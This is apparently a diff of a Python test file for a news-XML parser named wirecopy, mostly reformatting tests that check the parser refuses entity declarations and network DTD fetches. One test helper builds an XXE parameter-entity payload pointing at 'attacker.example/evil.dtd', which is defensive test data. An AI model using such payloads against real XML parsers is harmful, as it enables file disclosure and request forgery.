@@ -22,7 +22,7 @@ ROOTS = {
         "<contentSet><inlineData>{body}</inlineData></contentSet></newsItem>"
     ),
     "newsml-1": (
-        "<NewsML><NewsItem><NewsComponent><ContentItem><MediaType FormalName=\"Text\"/>"
+        '<NewsML><NewsItem><NewsComponent><ContentItem><MediaType FormalName="Text"/>'
         "<DataContent>{body}</DataContent></ContentItem></NewsComponent></NewsItem></NewsML>"
     ),
     "rcv1-xml": '<newsitem itemid="1" date="1996-08-20"><text><p>{body}</p></text></newsitem>',
@@ -49,7 +49,9 @@ def external_entity(root: str) -> str:
 
 
 def parameter_entity(root: str) -> str:
-    return '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>' + root.format(body="x")
+    return '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>' + root.format(
+        body="x"
+    )
 
 
 ATTACKS = {
@@ -121,10 +123,9 @@ def test_network_dtd_is_never_fetched(name: str, monkeypatch: pytest.MonkeyPatch
 
     monkeypatch.setattr(socket, "socket", refuse)
     monkeypatch.setattr(socket, "create_connection", refuse)
-    document = (
-        '<!DOCTYPE x SYSTEM "http://www.nitf.org/IPTC/NITF/3.3/specification/dtd/nitf-3-3.dtd">'
-        + ROOTS[name].format(body="Safe text.")
-    )
+    document = '<!DOCTYPE x SYSTEM "http://www.nitf.org/IPTC/NITF/3.3/specification/dtd/nitf-3-3.dtd">' + ROOTS[
+        name
+    ].format(body="Safe text.")
     [article] = wirecopy.loads(document, name, errors="strict")
     assert article.paragraphs == ("Safe text.",)
     assert opened == []
@@ -132,14 +133,14 @@ def test_network_dtd_is_never_fetched(name: str, monkeypatch: pytest.MonkeyPatch
 
 def test_relative_dtd_is_not_needed() -> None:
     """A DTD that is not there (the fishing sample's ../dtd/nitf-3-2.dtd) does not stop reading."""
-    document = '<!DOCTYPE nitf SYSTEM "../dtd/nitf-3-2.dtd">\n<nitf><body><body.content><p>Text.</p></body.content></body></nitf>'
+    document = '<!DOCTYPE nitf SYSTEM "../dtd/nitf-3-2.dtd">\n' + ROOTS["nitf"].format(body="Text.")
     [article] = wirecopy.loads(document, "nitf", errors="strict")
     assert article.paragraphs == ("Text.",)
 
 
 def test_harmless_internal_subset_is_allowed() -> None:
     """A DOCTYPE whose internal subset declares no entity (only attribute lists) is read."""
-    document = '<!DOCTYPE nitf [<!ATTLIST nitf baselang CDATA "en">]><nitf><body><body.content><p>Text.</p></body.content></body></nitf>'
+    document = '<!DOCTYPE nitf [<!ATTLIST nitf baselang CDATA "en">]>' + ROOTS["nitf"].format(body="Text.")
     [article] = wirecopy.loads(document, "nitf", errors="strict")
     assert article.paragraphs == ("Text.",)
 
@@ -158,14 +159,14 @@ def test_hostile_document_after_a_good_one() -> None:
 
 def test_entity_text_in_cdata_after_the_root_is_content() -> None:
     """The words "<!ENTITY" inside a CDATA section are text, not a declaration."""
-    document = "<nitf><body><body.content><p><![CDATA[Write <!ENTITY x \"y\"> to declare one.]]></p></body.content></body></nitf>"
+    document = ROOTS["nitf"].format(body='<![CDATA[Write <!ENTITY x "y"> to declare one.]]>')
     [article] = wirecopy.loads(document, "nitf", errors="strict")
     assert article.paragraphs == ('Write <!ENTITY x "y"> to declare one.',)
 
 
 def test_predefined_and_character_references_still_work() -> None:
     """The five predefined entities and numeric references are not entity declarations."""
-    document = "<nitf><body><body.content><p>&lt;a&gt; &amp; &quot;b&quot; &apos;c&apos; &#229; &#x2014;</p></body.content></body></nitf>"
+    document = ROOTS["nitf"].format(body="&lt;a&gt; &amp; &quot;b&quot; &apos;c&apos; &#229; &#x2014;")
     with warnings.catch_warnings():
         warnings.simplefilter("error")
         [article] = wirecopy.loads(document, "nitf", errors="strict")
